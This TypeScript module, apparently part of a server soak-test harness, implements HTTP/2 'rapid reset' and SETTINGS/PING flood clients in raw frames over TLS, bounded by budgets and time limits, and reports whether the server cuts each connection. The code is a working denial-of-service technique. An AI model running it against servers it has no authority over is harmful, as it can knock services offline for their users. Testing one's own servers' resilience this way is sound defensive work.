// Abusive HTTP/2 clients, written as raw frames on a TLS connection (ALPN h2): the 2023 "rapid reset"
// pattern (HEADERS, then RST_STREAM CANCEL at once, on stream after stream) and a flood of SETTINGS and
// PING frames. Raw frames because node:http2's own client paces new streams by the server's
// SETTINGS_MAX_CONCURRENT_STREAMS and holds a cancel until its stream went out, so it never sends the
// pattern at the rate an attacker does. Each connection records whether and how the server cut it;
// every abuse is bounded by a frame budget and a time limit.

import { connect as tlsConnect, type TLSSocket } from 'node:tls'
import { once } from 'node:events'
import { performance } from 'node:perf_hooks'
import { median } from '../../lib/stats.ts'
import type { Target } from './clients.ts'

/** How the server ended one abusive connection. */
export interface AbuseConnection {
  /** Streams reset (rapid reset) or frames written (flood) on it. */
  sent: number
  /** `goaway` (with its error code), `closed` without one, or null when it survived its share of the budget. */
  cut: 'goaway' | 'closed' | null
  goawayCode?: number
  /** The GOAWAY's last stream id: the streams the server says it processed. */
  lastStreamId?: number
  /** From its first abusive frame to the cut. */
  afterMs?: number
}

export interface AbuseResult {
  connections: AbuseConnection[]
  /** Streams reset or frames written in all. */
  sent: number
  ms: number
}

const CONNECT_TIMEOUT_MS = 10_000
// How long to wait, after the last abusive frame, for the server's verdict on the connection.
const VERDICT_TIMEOUT_MS = 5000

// RFC 9113: the client preface, frame types, flags and the error code a client cancels with.
const PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n')
const TYPE = { HEADERS: 0x1, RST_STREAM: 0x3, SETTINGS: 0x4, PING: 0x6, GOAWAY: 0x7 } as const
const FLAG = { ACK: 0x1, END_STREAM: 0x1, END_HEADERS: 0x4 } as const
const CANCEL = 0x8
const SETTINGS_MAX_CONCURRENT_STREAMS = 0x3
const VERDICT_PING = Buffer.from('soak-end')

function frame (type: number, payload: Buffer, flags = 0, streamId = 0): Buffer {
  const header = Buffer.alloc(9)
  header.writeUIntBE(payload.length, 0, 3)
  header[3] = type
  header[4] = flags
  header.writeUInt32BE(streamId, 5)
  return Buffer.concat([header, payload])
}

/** An HPACK integer (RFC 7541 §5.1) with a `prefixBits`-bit prefix, the byte's other bits zero. */
function hpackInteger (value: number, prefixBits: number): Buffer {
  const max = (1 << prefixBits) - 1
  if (value < max) return Buffer.from([value])
  const bytes = [max]
  for (value -= max; value >= 128; value = Math.floor(value / 128)) bytes.push((value % 128) | 0x80)
  bytes.push(value)
  return Buffer.from(bytes)
}

/** A header block of literal fields with new names, without indexing (RFC 7541 §6.2.2): no dynamic table to keep. */
function headerBlock (fields: Array<[string, string]>): Buffer {
  const string = (text: string): Buffer[] => [hpackInteger(Buffer.byteLength(text, 'latin1'), 7), Buffer.from(text, 'latin1')]
  return Buffer.concat(fields.flatMap(([name, value]) => [Buffer.from([0x00]), ...string(name), ...string(value)]))
}

/** The request each stream opens: a GET (ended at once), or an extended CONNECT for a WebSocket (left open, as a browser's is). */
function requestHeaderBlock (path: string, webSocket: boolean, extra: Record<string, string>): { block: Buffer, flags: number } {
  const fields: Array<[string, string]> = webSocket
    ? [[':method', 'CONNECT'], [':protocol', 'websocket'], [':scheme', 'https'], [':authority', 'localhost'], [':path', path], ['sec-websocket-version', '13']]
    : [[':method', 'GET'], [':scheme', 'https'], [':authority', 'localhost'], [':path', path]]
  const block = headerBlock([...fields, ...Object.entries(extra)])
  return { block, flags: webSocket ? FLAG.END_HEADERS : FLAG.END_STREAM | FLAG.END_HEADERS }
}

interface RawSession {
  conn: AbuseConnection
  /** Writes, waiting for the connection to drain (or close) when its buffer is full. */
  write: (bytes: Buffer) => Promise<void>
  writable: () => boolean
  /**
   * The server's verdict once it has read everything: a PING is answered only after every frame before
   * it was handled, so its ACK (or the connection's end, or VERDICT_TIMEOUT_MS) ends the wait.
   */
  verdict: () => Promise<void>
  close: () => Promise<void>
}

/** Connects, sends the preface and an empty SETTINGS, and watches for GOAWAY and the close. */
async function openRawSession (target: Target): Promise<RawSession> {
  const url = new URL(target.url)
  const socket: TLSSocket = tlsConnect({ host: url.hostname, port: Number(url.port), ca: target.ca, servername: 'localhost', ALPNProtocols: ['h2'] })
  socket.on('error', () => {})
  const conn: AbuseConnection = { sent: 0, cut: null }
  let first = 0
  let inbox = Buffer.alloc(0)
  let pinged: (() => void) | undefined
  socket.on('data', (chunk: Buffer) => {
    inbox = Buffer.concat([inbox, chunk])
    while (inbox.length >= 9 && inbox.length >= 9 + inbox.readUIntBE(0, 3)) {
      const length = inbox.readUIntBE(0, 3)
      const payload = inbox.subarray(9, 9 + length)
      if (inbox[3] === TYPE.GOAWAY && conn.cut === null) {
        Object.assign(conn, { cut: 'goaway', lastStreamId: payload.readUInt32BE(0) & 0x7fffffff, goawayCode: payload.readUInt32BE(4), afterMs: performance.now() - first })
      }
      if (inbox[3] === TYPE.PING && (inbox[4]! & FLAG.ACK) !== 0 && payload.equals(VERDICT_PING)) pinged?.()
      inbox = inbox.subarray(9 + length)
    }
  })
  const closed = new Promise<void>((resolve) => socket.once('close', () => {
    if (conn.cut === null) Object.assign(conn, { cut: 'closed', afterMs: performance.now() - first })
    pinged?.()
    resolve()
  }))
  const timer = setTimeout(() => socket.destroy(new Error(`not connected within ${CONNECT_TIMEOUT_MS} ms`)), CONNECT_TIMEOUT_MS)
  try {
    await once(socket, 'secureConnect')
  } finally {
    clearTimeout(timer)
  }
  socket.write(Buffer.concat([PREFACE, frame(TYPE.SETTINGS, Buffer.alloc(0))]))
  first = performance.now()
  return {
    conn,
    writable: () => conn.cut === null && socket.writable,
    write: async (bytes) => {
      if (socket.write(bytes)) return await new Promise((resolve) => setImmediate(resolve))
      await Promise.race([new Promise((resolve) => socket.once('drain', resolve)), closed])
    },
    verdict: async () => {
      if (!socket.writable) return
      let timer: NodeJS.Timeout | undefined
      await new Promise<void>((resolve) => {
        pinged = resolve
        timer = setTimeout(resolve, VERDICT_TIMEOUT_MS)
        socket.write(frame(TYPE.PING, VERDICT_PING))
      })
      clearTimeout(timer)
    },
    close: async () => {
      socket.destroy()
      await closed
    }
  }
}

/** Runs `abuse` on one connection after another until the budget or the time is spent. */
async function overConnections (target: Target, budget: { units: number, connections: number, maxMs: number },
  abuse: (session: RawSession, remaining: number, deadline: number) => Promise<void>): Promise<AbuseResult> {
  const began = performance.now()
  const deadline = began + budget.maxMs
  const connections: AbuseConnection[] = []
  let sent = 0
  while (sent < budget.units && connections.length < budget.connections && performance.now() < deadline) {
    const session = await openRawSession(target)
    connections.push(session.conn)
    await abuse(session, budget.units - sent, deadline)
    await session.verdict()
    await session.close()
    sent += session.conn.sent
  }
  return { connections, sent, ms: performance.now() - began }
}

export interface RapidResetOptions {
  path: string
  /** Open each stream as an extended CONNECT for a WebSocket (RFC 8441) instead of a GET. */
  webSocket?: boolean
  /** More header fields for each stream (an Authorization header, say). */
  headers?: Record<string, string>
  /** Streams to open and cancel in all. */
  streams: number
  /** Streams per connection at most; an attacker also reconnects when the server cuts it. */
  perConnection: number
  /** Streams per write. */
  batch?: number
  maxMs: number
}

/** Rapid reset: HEADERS for a GET (or a CONNECT) then RST_STREAM CANCEL on stream 1, 3, 5…; a new connection when one is cut or has had its share. */
export async function rapidReset (target: Target, options: RapidResetOptions): Promise<AbuseResult> {
  const batch = options.batch ?? 100
  const { block, flags } = requestHeaderBlock(options.path, options.webSocket === true, options.headers ?? {})
  const rst = Buffer.alloc(4)
  rst.writeUInt32BE(CANCEL)
  return await overConnections(target, { units: options.streams, connections: Number.POSITIVE_INFINITY, maxMs: options.maxMs }, async (session, remaining, deadline) => {
    let streamId = 1
    const share = Math.min(remaining, options.perConnection)
    while (session.writable() && session.conn.sent < share && performance.now() < deadline) {
      const count = Math.min(batch, share - session.conn.sent)
      const frames: Buffer[] = []
      for (let i = 0; i < count; i++, streamId += 2) {
        frames.push(frame(TYPE.HEADERS, block, flags, streamId), frame(TYPE.RST_STREAM, rst, 0, streamId))
      }
      await session.write(Buffer.concat(frames))
      session.conn.sent += count
    }
  })
}

export interface FloodOptions {
  /** Connections, one after another. */
  connections: number
  /** Frames per connection at most (half PING, half SETTINGS). */
  frames: number
  /** Frames per write. */
  batch?: number
  maxMs: number
}

/** A SETTINGS + PING flood: frames as fast as the connection takes them. */
export async function frameFlood (target: Target, options: FloodOptions): Promise<AbuseResult> {
  const batch = options.batch ?? 500
  const ping = frame(TYPE.PING, Buffer.alloc(8))
  // A SETTINGS frame the server must apply and acknowledge; its value changes nothing.
  const settings = frame(TYPE.SETTINGS, Buffer.from([0, SETTINGS_MAX_CONCURRENT_STREAMS, 0, 0, 0, 100]))
  const burst = Buffer.concat(Array.from({ length: batch }, (_, i) => (i % 2 === 0 ? ping : settings)))
  const budget = { units: options.connections * options.frames, connections: options.connections, maxMs: options.maxMs }
  return await overConnections(target, budget, async (session, _remaining, deadline) => {
    while (session.writable() && session.conn.sent < options.frames && performance.now() < deadline) {
      await session.write(burst)
      session.conn.sent += batch
    }
  })
}

/** `12 of 12 cut: 10 by GOAWAY (code 11), 2 closed without one; median after 35 ms and 1,100 streams`. */
export function describeCuts (result: AbuseResult, unit: string): string {
  const cut = result.connections.filter((c) => c.cut !== null)
  if (cut.length === 0) return `none of ${result.connections.length} cut`
  const byGoaway = cut.filter((c) => c.cut === 'goaway')
  const codes = [...new Set(byGoaway.map((c) => c.goawayCode))].join(', ')
  return `${cut.length} of ${result.connections.length} cut: ${byGoaway.length} by GOAWAY${codes === '' ? '' : ` (code ${codes})`}, ` +
    `${cut.length - byGoaway.length} closed without one; median after ${Math.round(median(cut.map((c) => c.afterMs ?? Number.NaN)))} ms ` +
    `and ${median(cut.map((c) => c.sent)).toLocaleString('en-US')} ${unit} sent`
}
